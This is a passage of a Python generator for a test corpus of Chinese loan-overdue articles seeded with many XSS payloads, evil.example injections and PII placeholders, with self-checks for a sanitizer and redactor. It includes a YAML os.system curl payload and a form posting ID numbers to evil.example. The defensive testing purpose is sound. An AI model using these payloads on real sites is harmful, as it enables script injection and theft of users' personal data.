    s = new("jiebei-yuqi-xieshang.txt", "借呗", 3)
    s.put("title", "{{ 7*7 }}", "tpl-jinja-probe-title")
    s.put("body", "{% raw %}<script>alert(1)</script>{% endraw %}", "tpl-raw-script-body")
    s.put("body", "${alert(1)}", "tpl-js-literal-body")
    s.put("item", '{{ "<img src=x onerror=alert(1)>" | safe }}', "tpl-safe-img-item")
    w = f"微信：{WX['colon']}"
    s.pii("body", f"有人打着“内部协商”的旗号，让借款人加{w}，千万别上当。", "pii-wechat-colon", w, WX["colon"], raw=True)
    w = _g4(CARD["g4_18"])
    s.pii("body", f"对方要求把钱转到卡号 {w} 的个人账户。", "pii-card-g4-18", w, CARD["g4_18"], raw=True)

    s = new("xinyongka-cuishou-duanxin.txt", "信用卡", 2, enc="gbk")
    s.put("title", '" onmouseover="alert(1)', "txt-title-dq-attr-break")
    s.put("related", "' autofocus onfocus='alert(1)", "txt-related-sq-attr-break")
    s.put("related", "` onmouseover=alert(1) `", "txt-related-backtick-break")
    w = _groups(PH["hyphen"], "-", (3, 4, 4))
    s.pii("body", f"短信里留的催收电话是{w}，打过去是个人手机。", "pii-phone-hyphen", w, PH["hyphen"], raw=True)
    w = f"微信号:{WX['wxid']}"
    s.pii("body", f"有人发帖称可以帮忙“停息挂账”，留的是{w}。", "pii-wechat-wxid", w, WX["wxid"], raw=True)

    s = new("花呗逾期 <img src=x onerror=alert(1)> 怎么办.txt", "花呗", 4)
    s.put("filename", None, "fn-img-spaces", written=" <img src=x onerror=alert(1)> ")
    w = _groups(PH["endash"], "–", (3, 4, 4))
    s.pii("body", f"第三方催收公司的人留了{w}这个号码，让我当天回电。", "pii-phone-endash", w, PH["endash"], raw=True)

    s = new("借呗逾期\n<svg onload=alert(1)>.txt", "借呗", 5)
    s.put("filename", None, "fn-newline-svg", written="\n<svg onload=alert(1)>")
    w = _groups(PH["emdash"], "—", (3, 4, 4))
    s.pii("body", f"催收员自称姓王，电话{w}，语气很不客气。", "pii-phone-emdash", w, PH["emdash"], raw=True)

    s = new("安逸花逾期' autofocus onfocus='alert(1)' x='.txt", "安逸花", 0, enc="gbk")
    s.put("filename", None, "fn-single-quote", written="' autofocus onfocus='alert(1)' x='")
    w = PH["title"]
    s.pii("title", f"（催收员电话{w}）", "pii-phone-title-txt", w, w)
    w = _groups(PH["fwhyphen"], "－", (3, 4, 4))
    s.pii("body", f"另一个催收号码是{w}，用的是全角横线。", "pii-phone-fw-hyphen", w, PH["fwhyphen"], raw=True)

    s = new(f"信用卡逾期求助 {EMAIL['filename']}.txt", "信用卡", 6)
    s.pii("filename", None, "pii-email-filename", EMAIL["filename"], EMAIL["filename"])
    w = _groups(PH["u2010"], "\u2010", (3, 4, 4))
    s.pii("body", f"银行委托的律所来电号码是{w}。", "pii-phone-u2010", w, PH["u2010"], raw=True)
    w = _groups(PH["u2011"], "\u2011", (3, 4, 4))
    s.pii("body", f"后来又换了一个号码{w}继续打。", "pii-phone-u2011", w, PH["u2011"], raw=True)
    w = PH["related"]
    s.pii("related", f"信用卡逾期找人代还，联系人{w}靠谱吗", "pii-phone-related-txt", w, w, raw=True)

    s = new("meituan-yuefu-cuishou-huashu.txt", "美团月付", 2)
    s.put("body", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "js-escape-script-body")
    s.put("body", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "pct-encoded-script-body")
    s.put("body", "﹤script﹥alert(1)﹤/script﹥", "small-form-script-body")
    s.put("related", "<svg/onload=alert(1)>", "svg-slash-onload-related")
    w = _groups(PH["slash"], "/", (3, 4, 4))
    s.pii("body", f"短信末尾写着“回电{w}”。", "pii-phone-slash", w, PH["slash"], raw=True)

    # ======================================================================
    # .md
    # ======================================================================
    s = new("huabei-yuqi-guide.md", "花呗", 2, fm=True)
    s.put("block", "<script>alert(1)</script>", "md-raw-script-line")
    s.put("body", "[点击查看还款入口](javascript:alert(1))", "md-link-javascript", where="link")
    s.put("body", "![还款二维码](http://evil.example/p.png)", "md-img-evil", where="image")
    s.put("fm", "tags: [<svg onload=alert(1)>, 逾期, 征信]", "fm-tags-svg", written="<svg onload=alert(1)>")
    w = f"mailto:{EMAIL['mailto_md']}"
    s.pii("body", f"作者说有问题可以[发邮件给我]({w})，请勿公开他人邮箱。", "pii-email-md-mailto", w, EMAIL["mailto_md"],
          where="link", raw=True)

    s = new("jiebei-yuqi-guize.md", "借呗", 4)
    s.put("body", "详细规则见[官方说明][r1]。\n\n[r1]: javascript:alert(1)", "md-ref-link-javascript",
          where="link", written="[r1]: javascript:alert(1)", raw=True)
    s.put("body", "<javascript:alert(1)>", "md-autolink-javascript", where="link")
    s.put("heading", ' {: onclick="alert(1)" }', "md-attrlist-heading", written='{: onclick="alert(1)" }')
    w = _groups(PH["title_md"], " ", (3, 4, 4))
    s.pii("title", f"（催收员{w}天天打电话）", "pii-phone-title-md", w, PH["title_md"])
    w = f"tel:{PH['tel_md']}"
    s.pii("body", f"实在不会操作的话，可以[拨打电话]({w})咨询。", "pii-phone-md-tel", w, PH["tel_md"], where="link", raw=True)

    s = new("xinyongka-yuqi-faq.md", "信用卡", 5)
    s.put("fm", "title: 信用卡逾期怎么办: <script>alert(1)</script>", "fm-colon-script-title",
          written="信用卡逾期怎么办: <script>alert(1)</script>")
    w = f"author: 王先生 {PH['frontmatter']}"
    s.pii("fm", w, "pii-phone-front-matter", PH["frontmatter"], PH["frontmatter"])
    s.put("body", "<img src=x onerror=alert(1)>", "md-html-img-onerror")

    s = new("weilidai-yuqi-houguo.md", "微粒贷", 6, fm=True)
    s.put("fm", 'extra: !!python/object/apply:os.system ["curl http://evil.example/yaml"]', "fm-python-object-tag",
          written='!!python/object/apply:os.system ["curl http://evil.example/yaml"]')
    s.put("body", '<a href="javascript:alert(1)">点击申请延期还款</a>', "md-raw-a-javascript", where="link")
    w = "".join(ch if i % 2 == 0 else _fw(ch) for i, ch in enumerate(PH["mixed"]))
    s.pii("body", f"催收短信里的号码是{w}，全角半角混着写。", "pii-phone-mixed-width", w, PH["mixed"], raw=True)

    s = new("meituan-yuefu-daima.md", "美团月付", 0, enc="utf-8-sig")
    s.put("body", "网上流传的“征信修复代码”是 `</code><script>alert(1)</script>`，千万不要相信。", "md-codespan-breakout",
          written="`</code><script>alert(1)</script>`", raw=True)
    s.put("body", "另一种写法是 ``<img src=x onerror=alert(1)>` 这样的格式。", "md-backtick-unbalanced",
          written="``<img src=x onerror=alert(1)>`", raw=True)
    s.put("block", "<details open ontoggle=alert(1)>\n<summary>逾期须知</summary>\n\n逾期后请尽快还款，避免影响征信。\n\n</details>",
          "md-html-block-details", written="<details open ontoggle=alert(1)>")
    w = f"<{EMAIL['angle']}>"
    s.pii("body", f"投稿人陈女士留下的联系方式是{w}。", "pii-email-angle", w, EMAIL["angle"], raw=True)

    s = new("anyihua-xieshang-rukou.md", "安逸花", 1, fm=True)
    s.put("body", "[查看协商入口](java\u200bscript:alert(1))", "md-link-zwsp-javascript", where="link")
    s.put("body", "[查看协商入口](ｊａｖａｓｃｒｉｐｔ：alert(1))", "md-link-fullwidth-javascript", where="link")
    s.put("body", "[查看详情](JaVaScRiPt:alert(1))", "md-link-mixedcase-javascript", where="link")
    s.put("body", "[查看详情](&#106;avascript:alert(1))", "md-link-entity-javascript", where="link")
    s.put("block", "---\ntitle: <script>alert(1)</script>\n---", "fm-second-block", where="front-matter")

    s = new("jingdong-baitiao-huankuan.md", "京东白条", 3, enc="gbk")
    s.put("body", "[查看](vbscript:alert(1))", "md-link-vbscript", where="link")
    s.put("body", f"[下载还款说明](data:text/html;base64,{B64_SCRIPT})", "md-link-data-html", where="link")
    s.put("body", '![逾期流程图](/img/flow.png "\\" onerror=\\"alert(1)")', "md-img-title-breakout", where="image")
    w = _g4(CARD["g4_19"])
    s.pii("body", f"催收员让我把钱转到 {w} 这张卡上。", "pii-card-g4-19", w, CARD["g4_19"], raw=True)

    s = new("huabei-cuishou-lianxi.md", "花呗", 6, fm=True)
    w = "+86 " + _groups(PH["plus86"], " ", (3, 4, 4))
    s.pii("body", f"自称法务部的人来电显示{w}。", "pii-phone-plus86", w, PH["plus86"], raw=True)
    w = EMAIL["upper"].upper()
    s.pii("body", f"对方让我把材料发到{w}。", "pii-email-uppercase", w, EMAIL["upper"], raw=True)
    w = f"v信 {WX['vxin']}"
    s.pii("item", f"私下协商：有人让加{w}谈减免，这不是官方渠道。", "pii-wechat-vxin", w, WX["vxin"], raw=True)
    w = f"qq号 {QQ['qqhao']}"
    s.pii("body", f"还有自称客服的人留了{w}。", "pii-qq-qqhao", w, QQ["qqhao"], raw=True)
    s.put("related_link", ("花呗逾期协商技巧", "javascript:alert(1)", ""), "md-related-link-javascript",
          written="[花呗逾期协商技巧](javascript:alert(1))")

    s = new("jiebei-yuqi-tianshu.md", "借呗", 0, fm=True)
    s.put("title", '"><svg onload=alert(1)>', "md-title-quote-svg")
    s.put("heading", "{{ '<img src=x onerror=alert(77)>' }}", "tpl-jinja-img-heading")
    s.put("fm", 'description: "\\"><img src=x onerror=alert(1)>"', "fm-description-quote-img",
          written='\\"><img src=x onerror=alert(1)>')
    w = ID["lower_x"].lower()
    s.pii("body", f"网友在求助帖里贴出身份证号{w}，末尾的x还是小写。", "pii-id-lowercase-x", w, ID["lower_x"], raw=True)

    s = new("微粒贷逾期`onmouseover=alert(1)`.md", "微粒贷", 2)
    s.put("filename", None, "fn-backtick", written="`onmouseover=alert(1)`")
    s.put("body", "逾期后账户会被限制使用。\n{: onmouseover=alert(1) }", "md-attrlist-paragraph",
          written="{: onmouseover=alert(1) }", raw=True)
    w = EMAIL["plus"]
    s.pii("body", f"催收公司发件人地址是{w}。", "pii-email-plus-tag", w, w, raw=True)

    s = new("京东白条逾期#<svg onload=alert(1)>?from=app&id=1.md", "京东白条", 4)
    s.put("filename", None, "fn-hash-query-amp", written="#<svg onload=alert(1)>?from=app&id=1")
    s.put("body", '请以[官方公告](https://example.com/notice){: onclick="alert(1)" }为准。', "md-attrlist-link",
          where="link", written='{: onclick="alert(1)" }', raw=True)
    w = "0086-" + _groups(PH["0086"], "-", (3, 4, 4))
    s.pii("body", f"境外号码{w}也打来过，自称是合作律所。", "pii-phone-0086", w, PH["0086"], raw=True)

    s = new("安逸花逾期<\u200bscript>alert(1).md", "安逸花", 3)
    s.put("filename", None, "fn-zwsp-script", written="<\u200bscript>alert(1)")
    s.put("block", '<iframe src="http://evil.example/frame.html" width="600" height="400"></iframe>', "md-iframe-evil")
    s.put("body", "{% endraw %}<script>alert(1)</script>", "tpl-endraw-script")
    w = f"加微 {WX['jiawei']}"
    s.pii("body", f"朋友圈有人发广告：“安逸花逾期不用怕，{w}”。", "pii-wechat-jiawei", w, WX["jiawei"], raw=True)

    s = new("xinyongka-huankuan-tips.md", "信用卡", 1, fm=True)
    s.put("body", '[官网](https://example.com "\\" onmouseover=\\"alert(1)")', "md-link-title-breakout", where="link")
    s.put("body", '![截图](x"onerror="alert(1))', "md-img-src-quote", where="image")
    s.put("body", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>", "md-svg-animate-onbegin")
    w = "(86)" + _groups(PH["paren86"], " ", (3, 4, 4))
    s.pii("body", f"来电显示{w}，对方说是银行外包。", "pii-phone-paren86", w, PH["paren86"], raw=True)
    w = f"身份证号{ID['image']}"
    s.pii("body", f'![身份证照片](/img/id.png "{w}")', "pii-id-md-image-title", ID["image"], ID["image"],
          where="image", raw=True)

    s = new("meituan-yuefu-fm.md", "美团月付", 5)
    s.put("fm", 'title: "美团月付逾期\n---\n<script>alert(1)</script>"', "fm-dashes-in-title",
          written="---\n<script>alert(1)</script>")
    w = f"{CARD['six_ten'][:6]} {CARD['six_ten'][6:]}"
    s.pii("body", f"收款账户写的是{w}，户名是个人。", "pii-card-six-ten", w, CARD["six_ten"], raw=True)

    # ======================================================================
    # .html
    # ======================================================================
    s = new("huabei-article-1001.html", "花呗", 0, layout=0)
    s.put("body", "<script>alert(1)</script>", "html-script-p")
    s.put("item", "<svg onload=alert(1)>", "html-svg-onload-li")
    s.put("related_link", ("花呗逾期协商技巧", "javascript:alert(1)", ""), "html-related-href-javascript",
          written='href="javascript:alert(1)"')
    s.put("block", '<p>想了解更多可以<a href="#" onclick="alert(1)">点击这里</a>查看。</p>', "html-onclick-anchor",
          where="attribute", written='onclick="alert(1)"')
    w = PH["attr_title"]
    s.pii("block", f'<p>逾期第三天，我接到了一个电话，对方自称是<span title="催收员手机{w}">平台法务</span>，语气很强硬。</p>',
          "pii-phone-attr-title", w, w, where="attribute")

    s = new("jiebei-article-1002.html", "借呗", 1, enc="gbk", layout=1)
    s.put("head", '<meta http-equiv="refresh" content="0;url=http://evil.example/">', "html-meta-refresh")
    s.put("head", '<base href="http://evil.example/">', "html-base-href")
    s.put("head", "<link rel=stylesheet href=//evil.example/x.css>", "html-link-stylesheet")
    s.put("title", "</title><script>alert(1)</script>", "html-title-close-script")

    s = new("xinyongka-article-1003.html", "信用卡", 2, layout=2)
    w = _groups(PH["title_html"], "-", (3, 4, 4))
    s.pii("title", f"，催收员号码{w}曝光", "pii-phone-title-html", w, PH["title_html"])
    s.put("block", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "html-iframe-srcdoc")
    s.put("block", '<object data="http://evil.example/x.swf" type="application/x-shockwave-flash"></object>', "html-object-data")
    s.put("block", '<embed src="http://evil.example/x.swf">', "html-embed-src")
    s.put("block", '<form action="http://evil.example/collect" method="post"><input name="idcard" placeholder="输入身份证号查询逾期记录">'
          '<button>查询</button></form>', "html-form-action", written='<form action="http://evil.example/collect" method="post">')

    s = new("weilidai-article-1004.html", "微粒贷", 3, layout=3)
    s.put("block", "<style>@import 'http://evil.example/x.css';</style>", "html-style-import")
    s.put("block", '<p style="width:expression(alert(1))">逾期后额度会被冻结。</p>', "html-css-expression",
          where="attribute", written='style="width:expression(alert(1))"')
    s.put("block", '<div style="background:url(javascript:alert(1))">征信记录保留五年。</div>', "html-css-url-javascript",
          where="attribute", written='style="background:url(javascript:alert(1))"')
    s.put("block", '<p style="background-image:url(http://evil.example/bg.png)">请按时还款。</p>', "html-css-bg-evil",
          where="attribute", written='style="background-image:url(http://evil.example/bg.png)"')

    s = new("meituan-article-1005.html", "美团月付", 4, enc="utf-8-sig", layout=0)
    s.put("block", "<svg><script>alert(1)</script></svg>", "svg-script")
    s.put("block", '<svg width="200" height="40"><a xlink:href="javascript:alert(1)"><text x="20" y="20">点此还款</text></a></svg>',
          "svg-xlink-href-javascript", where="link", written='xlink:href="javascript:alert(1)"')
    s.put("block", "<svg><animate onbegin=alert(1) attributeName=x dur=1s></animate></svg>", "svg-animate-onbegin",
          written="<animate onbegin=alert(1) attributeName=x dur=1s>")
    s.put("block", '<p><math href="javascript:alert(1)"><mtext>点我查看</mtext></math></p>', "mathml-href-javascript",
          where="link", written='<math href="javascript:alert(1)">')

    s = new("jingdong-article-1006.html", "京东白条", 5, layout=1)
    s.put("body_tag", ' onload="alert(1)"', "html-body-onload", written='<body onload="alert(1)">')
    s.put("block", '<p title="&quot; onmouseover=&quot;alert(1)">逾期后平台会冻结额度。</p>', "html-attr-dq-entity-break",
          where="attribute", written="&quot; onmouseover=&quot;alert(1)")
    s.put("block", "<p><img src=\"/img/step.png\" alt='&#39; autofocus onfocus=&#39;alert(1)'></p>", "html-attr-sq-entity-break",
          where="attribute", written="&#39; autofocus onfocus=&#39;alert(1)")
    s.put("block", '<p><img src="/img/step2.png" alt="` onmouseover=alert(1) `"></p>', "html-attr-backtick-break",
          where="attribute", written="` onmouseover=alert(1) `")
    s.put("block", '<p><abbr title="" onmouseover="alert(1)">征信</abbr>是个人信用记录。</p>', "html-attr-raw-dq-break",
          where="attribute", written='title="" onmouseover="alert(1)"')

    s = new("anyihua-article-1007.html", "安逸花", 6, layout=2)
    s.put("block", '<video controls><source src="x" onerror="alert(1)"></video>', "html-video-source-onerror")
    s.put("block", "<audio src=x onerror=alert(1)></audio>", "html-audio-onerror")
    s.put("block", '<iframe src="javascript:alert(1)"></iframe>', "html-iframe-javascript")
    s.put("block", "<p>请输入手机号：<input autofocus onfocus=alert(1)></p>", "html-input-autofocus",
          written="<input autofocus onfocus=alert(1)>")
    s.put("block", "<iframe onload=alert(1) src=\"about:blank\"></iframe>", "html-iframe-onload")

    s = new("huabei-article-1008.html", "花呗", 2, layout=3)
    s.put("block", '<p><a href="vbscript:alert(1)">查看逾期明细</a></p>', "html-link-vbscript", where="link",
          written='href="vbscript:alert(1)"')
    s.put("block", '<p><a href="data:text/html,<script>alert(1)</script>">下载还款计划</a></p>', "html-link-data-html",
          where="link", written='href="data:text/html,<script>alert(1)</script>"')
    s.put("block", '<p><a href="jav&#x09;ascript:alert(1)">申请延期</a></p>', "html-link-tab-entity", where="link",
          written='href="jav&#x09;ascript:alert(1)"')
    s.put("block", '<p><a href="\x01javascript:alert(1)">联系客服</a></p>', "html-link-c0-prefix", where="link",
          written='href="\x01javascript:alert(1)"')
    s.put("block", '<p><a href=" java\nscript:alert(1)">协商入口</a></p>', "html-link-newline-split", where="link",
          written='href=" java\nscript:alert(1)"')

    s = new("jiebei-article-1009.html", "借呗", 3, enc="gbk", layout=0)
    s.put("block", f'<p><a href="{ENT_JAVASCRIPT}alert(1)">官方还款通道</a></p>', "html-link-decimal-entities",
          where="link", written=f'href="{ENT_JAVASCRIPT}alert(1)"')
    s.put("body", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "html-ent-double-script")
    s.put("body", "&#60;script&#62;alert(1)&#60;/script&#62;", "html-ent-decimal-script")
    s.put("heading", "&#x3c;img src=x onerror=alert(1)&#x3e;", "html-ent-hex-img-heading")
    s.put("item", "&lt;svg onload=alert(1)&gt;", "html-ent-lt-svg-item")

    s = new("xinyongka-article-1010.html", "信用卡", 4, layout=1)
    s.put("block", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>', "mxss-noscript-title")
    s.put("block", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
          "mxss-mathml-mglyph-style", written="<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")
    s.put("block", "<svg><style><img src=x onerror=alert(1)></style></svg>", "mxss-svg-style-img")
    s.put("block", '<p><a href="java\u200bscript:alert(1)">查看征信报告</a></p>', "html-link-zwsp-javascript",
          where="link", written='href="java\u200bscript:alert(1)"')

    s = new("weilidai-article-1011.html", "微粒贷", 5, layout=2)
    w = _groups(PH["attr_alt"], " ", (3, 4, 4))
    s.pii("block", f'<p>网友贴出的截图：<img src="/static/img/sms-shot.png" alt="催收短信截图 来电{w}"></p>',
          "pii-phone-attr-alt", w, PH["attr_alt"], where="attribute")
    w = f'data-phone="{PH["data_attr"]}"'
    s.pii("block", f'<p class="tip" {w}>如需协商，请通过官方App联系客服。</p>', "pii-phone-data-attr", w, PH["data_attr"],
          where="attribute")
    w = f'data-email="{EMAIL["data_attr"]}"'
    s.pii("block", f'<div class="author" {w}>作者：钱律师（仅供参考）</div>', "pii-email-data-attr", w, EMAIL["data_attr"],
          where="attribute")
    w = "tel:+86-" + _groups(PH["tel_html"], "-", (3, 4, 4))
    s.pii("block", f'<p>联系方式：<a href="{w}">点击拨打</a></p>', "pii-phone-tel-link", w, PH["tel_html"], where="link")
    w = f"mailto:{EMAIL['mailto_html']}"
    s.pii("block", f'<p>投稿邮箱：<a href="{w}">给作者写信</a></p>', "pii-email-mailto-link", w, EMAIL["mailto_html"],
          where="link")

    s = new("meituan-article-1012.html", "美团月付", 6, layout=3)
    w = _groups(ID["spaced"], " ", (6, 8, 4))
    s.pii("item", f"身份核实：催收短信里直接写出了身份证号 {w}", "pii-id-spaced-6-8-4", w, ID["spaced"], raw=True)
    w = _g4(CARD["hyphen16"], "-")
    s.pii("item", f"转账要求：对方让转账到 {w} 的个人账户", "pii-card-hyphen", w, CARD["hyphen16"], raw=True)
    w = f'data-idcard="{ID["attr"]}"'
    s.pii("block", f'<p {w}>还款前请核对本人身份信息。</p>', "pii-id-data-attr", w, ID["attr"], where="attribute")
    w = f"扣扣：{QQ['koukou']}"
    s.pii("body", f"有人在评论区留{w}，声称可以消除逾期记录。", "pii-qq-koukou", w, QQ["koukou"], raw=True)
    w = _groups(PH["heading"], " ", (3, 4, 4))
    s.pii("heading", f"（咨询 {w}）", "pii-phone-heading", w, PH["heading"])

    s = new("信用卡逾期%3Cscript%3Ealert(1)%3C%2Fscript%3E.html", "信用卡", 0, layout=0)
    s.put("filename", None, "fn-percent-encoded-script", written="%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    s.put("meta_desc", "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;信用卡逾期后会怎样", "html-meta-description-breakout",
          written="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;")
    s.put("head", '<script type="application/ld+json">{"@type":"Article","headline":"信用卡逾期</script>'
          '<script>alert(1)</script>"}</script>', "html-jsonld-close-script", written='"headline":"信用卡逾期</script><script>alert(1)</script>"')
    w = f"加V：{WX['jiav']}"
    s.pii("body", f"有“上岸导师”在文章下留言{w}，收费帮忙协商。", "pii-wechat-jiav", w, WX["jiav"], raw=True)

    s = new('美团月付逾期" onmouseover="alert(1)".html', "美团月付", 1, layout=1)
    s.put("filename", None, "fn-double-quote", written='" onmouseover="alert(1)"')
    s.put("related", "<img src=x onerror=alert(1)>", "html-related-title-img")
    s.put("related_link", ("美团月付逾期会打电话给紧急联系人吗", "/article/3301.html", ' title="&quot;&gt;&lt;svg onload=alert(1)&gt;"'),
          "html-related-attr-title", where="attribute", written='title="&quot;&gt;&lt;svg onload=alert(1)&gt;"')
    w = _groups(PH["related_html"], " ", (3, 4, 4))
    s.pii("related", f"美团月付逾期找我代还，电话{w}", "pii-phone-related-html", w, PH["related_html"], raw=True)

    s = new("花呗逾期<script>alert(1)<!--.html", "花呗", 5, layout=2)
    s.put("filename", None, "fn-script-tag", written="<script>alert(1)<!--")
    s.put("title", '" onmouseover="alert(1)', "html-title-dq-attr-break")
    s.put("block", '<script src="//evil.example/x.js"></script>', "html-script-src-evil")
    s.put("block", '<p><img src="http://evil.example/track.png" alt="还款流程图"></p>', "html-img-evil-track", where="image",
          written='<img src="http://evil.example/track.png"')
    w = f"QQ群：{QQ['group']}"
    s.pii("related", f"花呗逾期互助{w}", "pii-qq-group-related", w, QQ["group"], raw=True)

    return S


def _build() -> tuple[Corpus, dict[str, str], dict[str, str]]:
    srcs = _sources()
    files: dict[str, bytes] = {}
    encs: dict[str, str] = {}
    where_file: dict[str, str] = {}
    variants: list[Variant] = []
    titles = [(s.base_title, s.story()) for s in srcs]
    assert len({t for t, _ in titles}) == len(titles), "two sources share a title"
    assert len({st for _, st in titles}) == len(titles), "two sources share a story"
    for s in srcs:
        assert s.name not in files, s.name
        files[s.name] = s.encode()
        encs[s.name] = s.enc
        for v in s.variants:
            assert v.id not in where_file, v.id
            where_file[v.id] = s.name
            variants.append(v)
    return Corpus(files=files, variants=tuple(variants)), encs, where_file


def generate() -> Corpus:
    """The hostile corpus (deterministic)."""
    return _build()[0]


def variant_sources() -> dict[str, str]:
    """variant id -> name of the source file it sits in (convenience)."""
    return _build()[2]


# --------------------------------------------------------------------------
# self-check
# --------------------------------------------------------------------------

_INVISIBLE = re.compile(r"[\x00-\x1f\x7f\u00ad\u200b-\u200f\u202a-\u202e\u2060\ufeff\u2028\u2029]")


def _decode(name: str, data: bytes, enc: str) -> str:
    if enc == "gbk":
        return data.decode("gb18030")
    if enc == "utf-8-sig":
        assert data.startswith(b"\xef\xbb\xbf"), name
        return data.decode("utf-8-sig")
    assert not data.startswith(b"\xef\xbb\xbf"), name
    return data.decode("utf-8")


def _norm_views(text: str) -> list[str]:
    """How a test could normalise a published page before searching needles."""
    t = unicodedata.normalize("NFKC", text)
    t = _INVISIBLE.sub("", t)
    return [
        t.lower(),
        re.sub(r"\s+", "", t).lower(),
        re.sub(r"[^0-9]", "", t),
        re.sub(r"[^0-9Xx]", "", t).upper(),
    ]


def _executes(w: str) -> bool:
    t = w
    for _ in range(3):
        t = html.unescape(urllib.parse.unquote(t))
    t = t.replace("\\u003c", "<").replace("\\u003e", ">")
    t = _INVISIBLE.sub("", unicodedata.normalize("NFKC", t)).lower()
    for m in re.finditer(r"base64,([a-z0-9+/=]+)", w, re.I):
        t += base64.b64decode(m.group(1)).decode("latin-1").lower()
    markers = ("alert(", "confirm(", "prompt(", "evil.example", "http-equiv=\"refresh\"", "<base ")
    return any(m in t for m in markers)


def self_check(corpus: Corpus, encs: dict[str, str], where_file: dict[str, str]) -> None:
    xss = [v for v in corpus.variants if v.family == "xss"]
    pii = [v for v in corpus.variants if v.family == "pii"]
    assert len(xss) >= 45, len(xss)
    assert len(pii) >= 32, len(pii)
    assert len({v.id for v in corpus.variants}) == len(corpus.variants), "duplicate ids"
    assert 30 <= len(corpus.files) <= 45, len(corpus.files)

    decoded: dict[str, str] = {}
    for name, data in corpus.files.items():
        assert "/" not in name and "\x00" not in name, repr(name)
        assert len(name.encode("utf-8")) <= 200, repr(name)
        assert name.endswith((".txt", ".md", ".html")), repr(name)
        assert len(data) < 20 * 1024, (name, len(data))
        text = _decode(name, data, encs[name])
        if encs[name] == "gbk":
            text.encode("gbk")
        decoded[name] = text
        assert any(p in text for p in PRODUCTS), name
        for word in ("逾期", "征信", "催收", "相关推荐"):
            assert word in text, (name, word)

    for v in corpus.variants:
        assert re.fullmatch(r"[a-z0-9][a-z0-9-]{2,60}", v.id), v.id
        assert v.family in ("xss", "pii"), v
        assert v.fmt in ("txt", "md", "html"), v
        name = where_file[v.id]
        assert name.endswith("." + v.fmt), v
        if v.where == "filename":
            assert v.written in name, v
        else:
            assert v.written in decoded[name], v
        if v.family == "xss":
            assert not v.needles, v
            assert v.id == "tpl-jinja-probe-title" or _executes(v.written), v
        else:
            assert v.needles, v
            views = _norm_views(v.written)
            for n in v.needles:
                assert any(n.lower() in x.lower() for x in views), (v.id, n)

    # needles: distinctive, never produced by benign text or by another variant
    needles = [(n, v.id) for v in pii for n in v.needles]
    assert len({n for n, _ in needles}) == len(needles), "needles must be unique"
    for n, vid in needles:
        assert len(n) >= 8, (vid, n)
        assert not any(n in pub.replace("-", "") for pub in PUBLIC_NUMBERS), (vid, n)
        for m, other in needles:
            if other != vid:
                assert n not in m, (vid, other)
    owners: dict[str, set[str]] = {}
    for n, vid in needles:
        owners.setdefault(n, set()).add(where_file[vid])
    for name, text in decoded.items():
        views = _norm_views(text) + _norm_views(name)
        for n, vid in needles:
            if name in owners[n]:
                continue
            assert not any(n.lower() in x.lower() for x in views), (n, vid, "leaks into", name)

    # public numbers are present as legitimate text
    alltext = "\n".join(decoded.values())
    for pub in PUBLIC_NUMBERS:
        assert pub in alltext, pub

    # determinism
    again = generate()
    assert again.files == corpus.files and again.variants == corpus.variants


def _summary(corpus: Corpus) -> str:
    fmts = ("txt", "md", "html")
    lines = []
    c = Counter((v.family, v.where, v.fmt) for v in corpus.variants)
    rows = sorted({(f, w) for f, w, _ in c})
    head = f"{'family':<6} {'where':<14} " + " ".join(f"{x:>5}" for x in fmts) + f" {'total':>6}"
    lines.append(head)
    lines.append("-" * len(head))
    for f, w in rows:
        nums = [c[(f, w, x)] for x in fmts]
        lines.append(f"{f:<6} {w:<14} " + " ".join(f"{n:>5}" for n in nums) + f" {sum(nums):>6}")
    lines.append("-" * len(head))
    for f in ("xss", "pii"):
        nums = [sum(c[(f, w, x)] for w in {w for ff, w in rows if ff == f}) for x in fmts]
        lines.append(f"{f:<6} {'(all)':<14} " + " ".join(f"{n:>5}" for n in nums) + f" {sum(nums):>6}")
    nums = [sum(1 for v in corpus.variants if v.fmt == x) for x in fmts]
    lines.append(f"{'all':<6} {'(all)':<14} " + " ".join(f"{n:>5}" for n in nums) + f" {sum(nums):>6}")
    wc = Counter(v.where for v in corpus.variants)
    lines.append("")
    lines.append("per where: " + ", ".join(f"{w}={n}" for w, n in sorted(wc.items())))
    fc = Counter(n.rsplit(".", 1)[1] for n in corpus.files)
    lines.append(f"files: {len(corpus.files)} (" + ", ".join(f"{k}={v}" for k, v in sorted(fc.items())) + ")")
    return "\n".join(lines)


def main(argv: list[str]) -> int:
    corpus, encs, where_file = _build()
    self_check(corpus, encs, where_file)
    if len(argv) > 1:
        outdir = argv[1]
        os.makedirs(outdir, exist_ok=True)
        for name, data in corpus.files.items():
            with open(os.path.join(outdir, name), "wb") as fh:
                fh.write(data)
    ec = Counter(encs.values())
    print(_summary(corpus))
    print("encodings: " + ", ".join(f"{k}={v}" for k, v in sorted(ec.items())))
    if len(argv) > 1:
        print(f"wrote {len(corpus.files)} files to {argv[1]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
